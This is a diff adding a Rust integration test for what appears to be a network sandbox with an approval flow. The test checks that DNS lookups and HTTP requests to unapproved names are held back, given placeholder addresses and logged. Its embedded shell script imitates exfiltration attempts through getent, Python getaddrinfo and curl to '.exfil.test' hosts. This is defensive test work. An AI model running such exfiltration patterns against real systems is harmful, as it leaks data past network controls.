@@ -582,3 +582,148 @@ fn a_captured_connection_to_an_unknown_host_is_asked_about_once() {
         }
     }
 }
+
+/// A lookup is data leaving (SPEC §5.5): with an approver configured and
+/// nobody answering, a name that waits for approval is never sent to the
+/// upstream resolver, and every name asked is an audit `dns` event. An
+/// approved connection to such a name is resolved only then.
+#[test]
+fn a_name_awaiting_approval_is_never_looked_up_before_it() {
+    for nobody in users() {
+        let f = Fixture::new_in(&base());
+        let dns = LoggingResolver::start();
+        let server = format!("127.0.0.1:{}", dns.port);
+        let origin = Origin::start_on("127.0.0.2:0", "origin");
+        let p = origin.port();
+        let policy = f.write(
+            "~/policy.toml",
+            "[network]\nallow = [\"allowed.test\"]\nunknown = \"ask\"\nask_timeout = \"2s\"\nallow_private = [\"127.0.0.0/8\"]\n",
+        );
+        let audit = f.home.join("audit.jsonl");
+        let report = f.home.join("report.json");
+        // Nobody ever connects to this socket.
+        let sock = f.home.join("approve.sock");
+        let ask = format!("socket:{}", sock.display());
+        let script = format!(
+            "echo allowed: $(getent hosts allowed.test)\n\
+             echo secret: $(getent hosts secret-4f2a.exfil.test)\n\
+             python3 -c 'import socket; socket.getaddrinfo(\"py-9c1d.exfil.test\", 443)' 2>&1 | tail -1\n\
+             curl -sS --noproxy '*' -m 10 http://conn-77ab.exfil.test:{p}/; echo curl-rc=$?\n"
+        );
+        let mut cmd = f.command(
+            &[
+                "-p",
+                policy.to_str().unwrap(),
+                "--dns-server",
+                &server,
+                "--ask",
+                &ask,
+                "--audit-log",
+                audit.to_str().unwrap(),
+                "--report",
+                report.to_str().unwrap(),
+            ],
+            &script,
+        );
+        if nobody {
+            cmd = as_nobody(&f, cmd);
+        }
+        let out = run(&mut cmd);
+        assert!(
+            out.stdout.contains("allowed: 127.0.0.2 allowed.test"),
+            "an allowed name still resolves\n{}",
+            show(&out)
+        );
+        let asked = dns.asked();
+        assert!(asked.iter().any(|n| n == "allowed.test"), "{asked:?}");
+        assert!(
+            asked.iter().all(|n| !n.contains("exfil")),
+            "a name awaiting approval reached the upstream resolver: {asked:?}\n{}",
+            show(&out)
+        );
+        assert!(
+            out.stdout.contains("secret: 198.18."),
+            "a placeholder stands for the name\n{}",
+            show(&out)
+        );
+        assert_eq!(origin.hits(), 0);
+        let events = audit_events(&audit);
+        for name in [
+            "allowed.test",
+            "secret-4f2a.exfil.test",
+            "py-9c1d.exfil.test",
+            "conn-77ab.exfil.test",
+        ] {
+            assert!(
+                events
+                    .iter()
+                    .any(|e| e["event"] == "dns" && e["name"] == name && e["type"] == "A"),
+                "no dns event for {name}\n{events:#?}"
+            );
+        }
+        assert!(
+            events.iter().any(|e| e["event"] == "dns"
+                && e["name"] == "secret-4f2a.exfil.test"
+                && e["outcome"] == "placeholder"),
+            "{events:#?}"
+        );
+        let report: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
+        assert!(
+            report["blocked"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|b| b["host"] == "conn-77ab.exfil.test" && b["reason"] == "approval-timeout"),
+            "{report:#}"
+        );
+    }
+
+    // Approved: only now is the name looked up (and, being an approval,
+    // its private test address is refused: the lookup is what shows).
+    let f = Fixture::new_in(&base());
+    let dns = LoggingResolver::start();
+    let server = format!("127.0.0.1:{}", dns.port);
+    let policy = f.write(
+        "~/policy.toml",
+        "[network]\nunknown = \"ask\"\nallow_private = [\"127.0.0.0/8\"]\n",
+    );
+    let report = f.home.join("report.json");
+    let sock = f.home.join("approve.sock");
+    let seen = approver(sock.clone(), "allow-once");
+    let ask = format!("socket:{}", sock.display());
+    let out = run(&mut f.command(
+        &[
+            "-p",
+            policy.to_str().unwrap(),
+            "--dns-server",
+            &server,
+            "--ask",
+            &ask,
+            "--report",
+            report.to_str().unwrap(),
+        ],
+        "getent hosts later.test\n\
+         curl -sS --noproxy '*' -m 10 http://later.test/; echo curl-rc=$?\n",
+    ));
+    let questions = seen.lock().unwrap().clone();
+    assert_eq!(questions.len(), 1, "{questions:#?}\n{}", show(&out));
+    assert_eq!(questions[0]["host"], "later.test");
+    assert!(
+        dns.asked().iter().any(|n| n == "later.test"),
+        "the approved name was resolved after its approval: {:?}\n{}",
+        dns.asked(),
+        show(&out)
+    );
+    let report: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
+    assert!(
+        report["blocked"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|b| b["host"] == "later.test" && b["reason"] == "private-address"),
+        "{report:#}\n{}",
+        show(&out)
+    );
+}
